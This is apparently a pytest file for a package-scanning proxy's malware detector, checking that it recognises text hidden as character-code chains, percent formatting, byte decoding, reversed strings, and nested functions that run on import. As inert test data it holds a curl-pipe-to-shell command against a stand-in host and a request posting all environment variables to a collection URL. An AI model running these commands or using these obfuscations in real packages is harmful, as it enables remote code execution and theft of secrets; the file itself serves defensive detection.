"""Rules 49: text spelled in long chains of pieces is read.

- ``exec(chr(105) + chr(109) + chr(112) + ...)``: characters spelled as their codes, joined
  by ``+``, are text hidden from readers (``payload``), as ``''.join(map(chr, [...]))`` was;
- a chain of literal pieces (``"h" + "t" + "t" + "p" ...``) is folded whatever its length:
  before, folding stopped 16 pieces deep, so a URL or command split into more pieces was
  never seen whole;
- other spellings of text as codes are read: ``"%c%c" % (104, 116)``,
  ``bytes([104, 116]).decode()`` (its character codes were read only when ``decode`` had
  arguments), ``str(bytes([...]), "utf-8")``, ``bytearray([...]).decode()``,
  ``"".join(reversed("ptth"))``;
- a function defined inside a function that import runs, and called there, runs on import
  too (before, only the module's own functions were followed).

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.proxy.scan.source import read_source
from tests.support.archives import wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
COMMAND = "import os;os.system('curl -s https://c.example.net/x | sh')"


@pytest.mark.parametrize("repeat", [1, 10])
def test_code_spelled_as_a_chain_of_character_codes_into_exec_is_decode_exec(repeat: int) -> None:
    chain = " + ".join(f"chr({ord(c)})" for c in COMMAND * repeat)
    rules, held = judge(wheel({"demo/__init__.py": f"exec({chain})\n"}), WHEEL)
    assert rules.get("decode-exec") == 10
    assert held


def test_a_few_characters_spelled_as_codes_are_not_hidden_code() -> None:
    init = "LINE_END = chr(13) + chr(10)\nSEPARATOR = '-' * 10 + chr(10)\nprint(LINE_END)\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "decode-exec" not in rules
    assert not held


def test_a_url_split_into_many_pieces_is_read_whole() -> None:
    url = "https://collect.example.net/u"
    chain = " + ".join(repr(c) for c in url)
    facts = read_source(f"import requests\nrequests.get({chain})\n")
    assert any(url in call.args for call in facts.calls if call.name == "requests.get")


_URL = "https://collect.example.net/u"
_CODES = ", ".join(str(ord(c)) for c in _URL)


@pytest.mark.parametrize(
    "spelled",
    [
        " + ".join(f"chr({ord(c)})" for c in _URL),
        '"' + "%c" * len(_URL) + f'" % ({_CODES})',
        f"bytes([{_CODES}]).decode()",
        f"bytearray([{_CODES}]).decode()",
        f'str(bytes([{_CODES}]), "utf-8")',
        f'"".join(reversed({_URL[::-1]!r}))',
    ],
    ids=["chr chain", "percent-c", "bytes decode", "bytearray decode", "str of bytes", "reversed"],
)
def test_a_url_spelled_as_codes_is_read(spelled: str) -> None:
    facts = read_source(f"import os, requests\nrequests.post({spelled}, json=dict(os.environ))\n")
    assert any(_URL in text for call in facts.calls for text in call.args) or any(
        _URL in text for text, _ in facts.decoded
    )


def _nested(call_inner: bool) -> str:
    call = "    _inner()\n" if call_inner else ""
    return (
        "import os, requests\n"
        "def _outer():\n"
        "    def _inner():\n"
        "        requests.post('https://collect.example.net/u', json=dict(os.environ))\n"
        + call
        + "_outer()\n"
    )


def test_a_function_defined_and_called_inside_one_import_runs_runs_on_import() -> None:
    facts = read_source(_nested(call_inner=True))
    assert [call.top for call in facts.calls if call.name == "requests.post"] == [True]


def test_a_function_defined_inside_one_import_runs_but_not_called_does_not_run() -> None:
    facts = read_source(_nested(call_inner=False))
    assert [call.top for call in facts.calls if call.name == "requests.post"] == [False]
